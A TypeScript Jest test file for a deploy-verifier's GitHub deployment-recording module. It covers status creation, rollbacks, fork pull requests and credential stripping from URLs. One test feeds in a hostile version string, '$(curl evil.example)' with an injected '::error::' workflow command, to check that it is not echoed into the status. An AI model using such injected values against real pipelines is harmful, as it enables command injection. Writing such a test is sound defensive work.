import { afterEach, describe, expect, test } from '@jest/globals'
import type { GitHubOptions } from '@plinth/testkit/github'
import { openRecord } from '../src/gather/record/index.ts'
import {
  judgementOf,
  OLD_SHA,
  onEvent,
  RUN_URL,
  recording,
  type Scene,
  SHA,
  startScene,
} from './record-scene.ts'

let scene: Scene
afterEach(() => scene.github.close())

async function begin(...parameters: Parameters<typeof startScene>): Promise<Scene> {
  scene = await startScene(...parameters)
  return scene
}

const bodies = () =>
  scene.github.requests
    .filter(({ method, target }) => method === 'POST' && !target.includes('graphql'))
    .map(({ body }) => body)

describe('a deployment that has to be made', () => {
  test('is created, announced, remembered and closed, word for word', async () => {
    const { asked, context, kept } = await begin()
    const record = await openRecord(recording(scene), context)
    expect(kept).toEqual({ deployment: '1001' })
    expect(await record.deploymentFailed()).toBeNull()
    const recorded = await record.close(judgementOf('promote'))
    expect(asked()).toEqual([
      `GET /deployments?environment=production&sha=${SHA}&per_page=5&page=1`,
      'POST /deployments',
      'POST /deployments/1001/statuses',
      'GET /deployments/1001/statuses?per_page=100&page=1',
      'POST /deployments/1001/statuses',
    ])
    expect(bodies()).toEqual([
      {
        ref: SHA,
        environment: 'production',
        description: 'Verified by Plinth’s deploy-verifier',
        payload: { version: '1.4.2', run: RUN_URL },
        transient_environment: false,
        production_environment: true,
        auto_merge: false,
        required_contexts: [],
      },
      {
        state: 'in_progress',
        description: 'Plinth: being verified',
        auto_inactive: false,
        environment_url: 'https://shop.example/',
        log_url: RUN_URL,
      },
      {
        state: 'success',
        description: 'Plinth: pass, version 1.4.2 verified',
        auto_inactive: true,
        environment_url: 'https://shop.example/',
        log_url: RUN_URL,
      },
    ])
    expect(kept).toEqual({ deployment: '1001', record: 'closed' })
    expect(recorded).toMatchObject({ state: 'recorded', deploymentId: 1001, problems: [] })
    expect(recorded.history?.deployments).toMatchObject([
      { id: 1001, sha: SHA, version: '1.4.2', outcome: 'success' },
    ])
    expect(recorded.history?.deployments[0]?.endedAt).not.toBeNull()
  })

  test('a pull request’s is transient, and of its own commit', async () => {
    const repo = { full_name: 'octo/shop' }
    const pull_request = { number: 7, head: { sha: OLD_SHA, repo }, base: { repo } }
    const { context, github } = await begin(
      {},
      { event: { name: 'pull_request', payload: { pull_request } } },
    )
    await openRecord(recording(scene), context)
    expect(github.store.deployments[0]?.deployment).toMatchObject({
      sha: OLD_SHA,
      transient_environment: true,
      production_environment: false,
    })
  })

  test('an address with a password and a query is shown without them', async () => {
    const { context, statuses } = await begin()
    await openRecord(recording(scene, { environmentUrl: 'https://user:word@shop.example/a' }), context)
    expect(statuses(1001)).toEqual(['in_progress: Plinth: being verified'])
    expect(JSON.stringify(bodies())).toContain('https://shop.example/a')
    expect(JSON.stringify(bodies())).not.toContain('word')
  })
})

describe('a deployment that is there', () => {
  test('of the event is used, whatever the environment of the input', async () => {
    const { asked, context, github, statuses } = await begin()
    const { deployment } = github.deployment({
      sha: OLD_SHA,
      environment: 'Preview',
      statuses: [{ state: 'success' }],
    })
    const record = await openRecord(recording(scene, {}, onEvent(deployment)), context)
    await record.close(judgementOf('rollback'))
    expect(asked()).toEqual([
      `POST /deployments/${deployment.id}/statuses`,
      `POST /deployments/${deployment.id}/statuses`,
    ])
    expect(statuses(Number(deployment.id)).slice(1)).toEqual([
      'in_progress: Plinth: being verified',
      'failure: Plinth: fail, version 1.4.2 broken',
    ])
  })

  test('and has not ended is used; ended ones, other commits and environments are not', async () => {
    const { context, github } = await begin()
    const sha = SHA
    const production = 'production'
    github.deployment({ sha, environment: 'staging' })
    github.deployment({ sha: OLD_SHA, environment: production })
    const open = github.deployment({ sha, environment: production, statuses: [{ state: 'in_progress' }] })
    github.deployment({ sha, environment: production, statuses: [{ state: 'failure' }] })
    const record = await openRecord(recording(scene), context)
    expect(record.deployment?.id).toBe(open.deployment.id)
  })

  test('and was made by an earlier attempt of this run is used, though it has ended', async () => {
    const { context, github } = await begin()
    const first = await openRecord(recording(scene), context)
    await first.close(judgementOf('rollback'))
    const second = await openRecord(recording(scene), context)
    expect(second.deployment?.id).toBe(first.deployment?.id)
    expect(github.store.deployments).toHaveLength(1)
  })
})

describe('the decision', () => {
  test.each([
    ['promote', 'success: Plinth: pass, version 1.4.2 verified'],
    ['rollback', 'failure: Plinth: fail, version 1.4.2 broken'],
    ['hold', 'error: Plinth: inconclusive, version 1.4.2 not verified'],
  ] as const)('%s is %s', async (decision, status) => {
    const { context, github, statuses } = await begin()
    const { deployment } = github.deployment({ sha: SHA, environment: 'production' })
    const record = await openRecord(recording(scene, {}, onEvent(deployment)), context)
    await record.close(judgementOf(decision))
    expect(statuses(Number(deployment.id)).at(-1)).toBe(status)
  })

  test('a version that could be anything is not named', async () => {
    const { context, github, statuses } = await begin()
    const { deployment } = github.deployment({ sha: SHA, environment: 'production' })
    const identity = { expected: '$(curl evil.example) \n::error::', consecutive: 3 }
    const record = await openRecord(recording(scene, {}, { ...onEvent(deployment), identity }), context)
    await record.close(judgementOf('promote'))
    expect(statuses(Number(deployment.id)).at(-1)).toBe('success: Plinth: pass, verified')
  })

  test('a success ends what it replaces: by itself outside production, one by one in it', async () => {
    const { context, github } = await begin()
    const success = [{ state: 'success' as const }]
    const replaced = ['staging', 'production', 'production'].map((environment) =>
      github.deployment({ sha: OLD_SHA, environment, statuses: success }),
    )
    const failed = github.deployment({
      sha: OLD_SHA,
      environment: 'production',
      statuses: [...success, { state: 'failure' }],
    })
    for (const environment of ['staging', 'production']) {
      const { deployment } = github.deployment({ sha: SHA, environment })
      const record = await openRecord(recording(scene, { environment }, onEvent(deployment)), context)
      expect(await record.close(judgementOf('promote'))).toMatchObject({ state: 'recorded', problems: [] })
    }
    expect(replaced.map(({ statuses }) => statuses.at(-1)?.state)).toEqual([
      'inactive',
      'inactive',
      'inactive',
    ])
    expect(replaced[1]?.statuses.at(-1)?.description).toBe('Plinth: replaced by a newer deployment')
    expect(failed.statuses.at(-1)?.state).toBe('failure')
  })
})

describe('a failure that the deployer reports', () => {
  test('is told once, and stays', async () => {
    const { context, github, kept, statuses } = await begin()
    const { deployment, statuses: there } = github.deployment({ sha: SHA, environment: 'production' })
    const record = await openRecord(recording(scene, {}, onEvent(deployment, null)), context)
    await fetch(`${github.url}/repos/octo/shop/deployments/${deployment.id}/statuses`, {
      method: 'POST',
      headers: { authorization: `token ${github.token}` },
      body: JSON.stringify({ state: 'failure', description: `build\nfailed ${'x'.repeat(100)}` }),
    })
    expect(await record.deploymentFailed()).toMatch(
      /^GitHub reports that the deployment failed: build failed x+$/,
    )
    const asked = github.requests.length
    expect(await record.deploymentFailed()).toMatch(/failed/)
    expect(github.requests).toHaveLength(asked)
    expect(await record.close(judgementOf('hold'))).toMatchObject({ state: 'recorded' })
    expect(statuses(Number(deployment.id)).at(-1)).toMatch(/^failure: build/)
    expect(there).toHaveLength(2)
    expect(kept).toMatchObject({ record: 'closed' })
  })

  test('and that the event is about is not written over', async () => {
    const { asked, context, github } = await begin()
    const { deployment } = github.deployment({
      sha: SHA,
      environment: 'production',
      statuses: [{ state: 'failure' }],
    })
    const record = await openRecord(recording(scene, {}, onEvent(deployment, 'failure')), context)
    expect(await record.deploymentFailed()).toBe('GitHub reports that the deployment failed')
    await record.close(judgementOf('hold'))
    expect(asked()).toEqual([])
  })
})

describe('nothing is recorded', () => {
  const pull_request = {
    number: 7,
    head: { sha: SHA, repo: { full_name: 'mallory/shop' } },
    base: { repo: { full_name: 'octo/shop' } },
  }
  const fork = { event: { name: 'pull_request_target', payload: { pull_request } } }
  type Case = readonly [
    string,
    Parameters<typeof startScene>[1],
    Parameters<typeof recording>[1],
    Parameters<typeof recording>[2],
    string,
  ]
  const cases: readonly Case[] = [
    ['without a token', {}, {}, { token: null }, 'there is no token'],
    ['without an environment', {}, { environment: null }, {}, 'the event is about no deployment'],
    [
      'outside a repository',
      { workflow: { repository: '' } },
      {},
      {},
      'this is not a run of a repository’s workflow',
    ],
    ['without a commit', { workflow: { sha: '' } }, {}, {}, 'it is not known which commit was deployed'],
    ['on a fork’s event, though its token may write', fork, {}, {}, 'another repository'],
  ]

  test.each(cases)(
    '%s: silently, or with the reason where it was asked for',
    async (_, where, rule, more, why) => {
      const { context, github, kept } = await begin({}, where)
      const auto = await openRecord(recording(scene, rule, more), context)
      expect(await auto.close(judgementOf('promote'))).toEqual({
        state: 'not-wanted',
        deploymentId: null,
        problems: [],
        history: null,
      })
      const always = await openRecord(recording(scene, { ...rule, mode: 'always' }, more), context)
      const recorded = await always.close(judgementOf('promote'))
      expect(recorded.state).toBe('failed')
      expect(recorded.problems.join()).toContain(why)
      expect(await always.deploymentFailed()).toBeNull()
      expect(await always.history()).toBeNull()
      expect(github.requests).toEqual([])
      expect(kept).toEqual({})
    },
  )

  test.each([
    ['never is asked for', { mode: 'never' }, {}],
    ['the gate does not apply', { mode: 'always' }, { skip: 'the deployment is pending' }],
  ] as const)('where %s', async (_, rule, more) => {
    const { context, github } = await begin()
    const record = await openRecord(recording(scene, rule, more), context)
    expect(await record.close(judgementOf('hold'))).toMatchObject({ state: 'not-wanted', problems: [] })
    expect(github.requests).toEqual([])
  })
})

test('an Enterprise Server is reached below its prefix', async () => {
  const options: GitHubOptions = { enterprise: true }
  const { context } = await begin(options)
  const record = await openRecord(recording(scene), context)
  expect(await record.close(judgementOf('promote'))).toMatchObject({ state: 'recorded', problems: [] })
})
